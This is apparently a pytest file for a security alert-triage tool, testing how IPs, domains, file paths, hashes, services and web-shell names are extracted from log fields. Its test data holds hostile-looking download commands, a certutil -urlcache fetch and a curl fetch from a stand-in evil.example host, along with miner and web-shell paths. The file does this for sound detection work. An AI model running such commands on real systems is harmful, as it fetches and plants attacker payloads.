"""Which fields of a finding may tie it to others, and in which spelling."""

from dataclasses import replace

import pytest
from long_stories import act

from tocsin import limits
from tocsin.triage.keys import keys_of, outside, registered

WINDOWS = "C:\\Windows\\System32\\cmd.exe"


@pytest.mark.parametrize(
    ("fields", "keys"),
    [
        ({"DestinationIp": "203.0.113.7", "SourceIp": "10.1.2.3"}, {"ip:203.0.113.7"}),
        ({"c-ip": "2001:DB8::7"}, {"ip:2001:db8::7"}),
        ({"dest_ip": "203.0.113.7", "dest_port": "53", "src_ip": "198.51.100.1"}, {"ip:198.51.100.1"}),
        ({"QueryName": "a1.b2.Evil.example."}, {"domain:evil.example"}),
        ({"QueryName": "download.windowsupdate.com"}, set()),
        ({"QueryName": "evil.azurewebsites.net"}, {"domain:evil.azurewebsites.net"}),
        ({"query": "mail.shop.co.uk"}, {"domain:shop.co.uk"}),
        ({"Image": WINDOWS, "ParentImage": "C:\\Program Files\\Agent\\a.exe"}, set()),
        ({"Image": "C:\\ProgramData\\Pd.exe"}, {"file:c:\\programdata\\pd.exe"}),
        ({"TargetFilename": "C:\\Windows\\System32\\evil.dll"}, {"file:c:\\windows\\system32\\evil.dll"}),
        ({"exe": "/usr/bin/bash"}, set()),
        ({"exe": "/tmp/.x/miner"}, {"file:/tmp/.x/miner"}),
        ({"Hashes": "MD5=" + "A" * 32 + ",SHA256=" + "B" * 64 + ",IMPHASH=" + "C" * 32}, {"hash:" + "b" * 64}),
        ({"EventID": "7045", "ServiceName": "MgrSvc", "ImagePath": "%SystemRoot%\\a.exe"}, {"service:mgrsvc"}),
        ({"EventID": "7036", "ServiceName": "MgrSvc"}, set()),
        ({"EventID": "7045", "ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe"}, set()),
        ({"EventID": "4698", "TaskName": "\\Updater"}, {"task:\\updater"}),
        ({"EventID": "4698", "TaskName": "\\Microsoft\\Windows\\Defrag"}, set()),
        ({"EventID": "4720", "TargetUserName": "helpdesk02"}, {"account:helpdesk02"}),
        ({"CommandLine": "certutil -urlcache -f http://203.0.113.66/a.txt C:\\ProgramData\\a.exe"},
         {"ip:203.0.113.66", "file:c:\\programdata\\a.exe"}),
        ({"CommandLine": "curl https://user@cdn.evil.example:8443/x -o /tmp/x"},
         {"domain:evil.example", "file:/tmp/x"}),
        ({"message": "Failed password for root from 203.0.113.66 port 22"}, {"ip:203.0.113.66"}),
        ({"CommandLine": "ping 10.0.0.1 && C:\\Windows\\System32\\net.exe use 1.2.3"}, set()),
        ({"TargetFilename": "\\\\.\\PhysicalDrive0"}, set()),
        ({"TargetFilename": "C:\\inetpub\\wwwroot\\x\\error4.aspx"},
         {"file:c:\\inetpub\\wwwroot\\x\\error4.aspx", "script:error4.aspx"}),
        ({"TargetFilename": "C:\\inetpub\\wwwroot\\default.aspx"}, {"file:c:\\inetpub\\wwwroot\\default.aspx"}),
    ],
)  # fmt: skip
def test_fields_give_the_keys_that_may_be_specific(fields: dict[str, str], keys: set[str]) -> None:
    assert set(keys_of(act(0, "execution", **fields))) == keys


def test_a_page_is_a_key_where_the_rule_speaks_of_a_web_shell() -> None:
    page = {"cs-uri-stem": "/x/error4.aspx"}
    assert keys_of(act(0, "persistence", **page)) == ("uri:/x/error4.aspx", "script:error4.aspx")
    assert keys_of(act(0, "command-and-control", **page)) == ("script:error4.aspx",)
    assert keys_of(act(0, "initial-access", **page)) == ()


def test_the_outside_address_that_stands_for_the_account_is_a_key() -> None:
    assert keys_of(act(0, "persistence", user="203.0.113.9")) == ("ip:203.0.113.9",)


def test_the_keys_of_an_analytic_come_first_and_in_one_spelling() -> None:
    named = ("IP: 203.0.113.7", "ip:10.0.0.1", "account:MIN\\Anna", "domain:www.evil.example", "colour:red", "ip:")
    finding = replace(act(0, "execution"), keys=named)
    assert keys_of(finding) == ("ip:203.0.113.7", "account:anna", "domain:evil.example")


def test_the_number_of_keys_is_bounded() -> None:
    finding = replace(act(0, "execution"), keys=tuple(f"task:t{n}" for n in range(limits.FINDING_KEYS + 50)))
    assert len(keys_of(finding)) == limits.FINDING_KEYS


def test_addresses_inside_are_nobody_outside() -> None:
    inside = ("10.0.0.1", "100.64.0.1", "127.0.0.1", "169.254.1.1", "172.16.9.9", "192.168.1.1", "224.0.0.251", "::1",
              "fe80::1", "fd00::1", "0.0.0.0", "255.255.255.255", "", "x", "1.2.3", "1" * 50)  # fmt: skip
    assert not any(map(outside, inside))
    assert all(map(outside, ("8.8.8.8", "203.0.113.1", "2001:db8::1", " 198.51.100.1 ")))


def test_the_registered_part_of_a_name() -> None:
    names = {
        "a.b.example.com": "example.com",
        "x.gov.ua": "x.gov.ua",
        "ministry.al": "ministry.al",
        "www.ministry.al": "ministry.al",
    }
    assert {name: registered(name) for name in names} == names
